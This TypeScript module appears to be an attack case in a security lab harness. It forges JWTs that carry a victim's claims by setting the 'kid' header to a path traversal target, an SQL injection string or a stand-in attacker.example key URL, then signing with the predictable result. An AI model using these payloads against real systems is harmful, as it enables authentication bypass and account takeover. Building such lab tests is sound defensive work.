import { signWithSecret } from '@/lib/lab/world/jwt'
import type { Attack, TokenTarget } from './target'

/** A kid that leads to something whose content the attacker knows. */
export const attack: Attack<TokenTarget> = async ({ victimsClaims, header, readsVictim }) => {
  const known = [
    ['../public/robots.txt', 'User-agent: *\nDisallow: /account\n'],
    ['../../dev/null', ''],
    ["x' UNION SELECT 'known' --", 'known'],
    ['https://attacker.example/key', 'known'],
  ] as const
  for (const [kid, secret] of known) {
    const token = signWithSecret({ ...(await header()), alg: 'HS256', kid }, await victimsClaims(), secret)
    if (await readsVictim(token)) return true
  }
  return false
}
